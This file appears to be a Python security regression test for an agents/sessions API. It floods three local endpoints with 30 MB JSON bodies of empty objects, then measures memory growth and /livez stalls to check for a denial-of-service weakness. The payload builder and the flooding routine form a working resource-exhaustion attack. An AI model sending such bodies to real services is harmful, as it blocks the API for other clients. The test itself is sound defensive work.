"""With any key: a body of empty JSON objects blocks the API for all clients, and takes a gigabyte."""

import asyncio
import time
from contextlib import suppress
from pathlib import Path
from typing import Final

from bench.support.cluster import open_cluster

_BODY_BYTES: Final = 30_000_000
_MAX_GROWTH_MB: Final = 200
_MAX_SILENCE: Final = 1.5


async def attack() -> str | None:
    async with open_cluster(apis=1, workers=0) as cluster:
        port = cluster.ports[0]
        pid = cluster.apis[0].pid
        assert pid is not None
        before = _peak_memory_mb(pid)
        silences: list[float] = []
        watching = asyncio.create_task(_watch(port, silences))
        await asyncio.sleep(0.5)
        for path in ("/v1/agents", "/v1/sessions", "/v1/sessions/sesn_1/events"):
            for size in (_BODY_BYTES, 3_000_000):
                await _send(port, cluster.key, path, _body(size))
        watching.cancel()
        await asyncio.gather(watching, return_exceptions=True)
        grown = _peak_memory_mb(pid) - before
    if grown > _MAX_GROWTH_MB or max(silences) > _MAX_SILENCE:
        return f"bodies of empty objects grew the API by {grown:.0f} MB; /livez took up to {max(silences):.1f} s"
    return None


def _body(size: int) -> bytes:
    return b'{"name":"a","model":"m","events":[{}],"tools":[' + b"{}," * (size // 3) + b"{}]}"


async def _send(port: int, key: str, path: str, body: bytes) -> None:
    head = f"POST {path} HTTP/1.1\r\nhost: 127.0.0.1\r\nx-api-key: {key}\r\ncontent-length: {len(body)}\r\n"
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    with suppress(OSError, TimeoutError):
        async with asyncio.timeout(20):
            writer.write(head.encode() + b"content-type: application/json\r\nconnection: close\r\n\r\n")
            writer.write(body)
            await writer.drain()
            await reader.read()
    writer.transport.abort()


async def _watch(port: int, silences: list[float]) -> None:
    while True:
        began = time.monotonic()
        with suppress(OSError):
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(b"GET /livez HTTP/1.1\r\nhost: 127.0.0.1\r\nconnection: close\r\n\r\n")
            await reader.read()
            writer.close()
        silences.append(time.monotonic() - began)
        await asyncio.sleep(0.02)


def _peak_memory_mb(pid: int) -> float:
    lines = Path(f"/proc/{pid}/status").read_text().splitlines()
    return next(int(line.split()[1]) for line in lines if line.startswith("VmHWM:")) / 1000
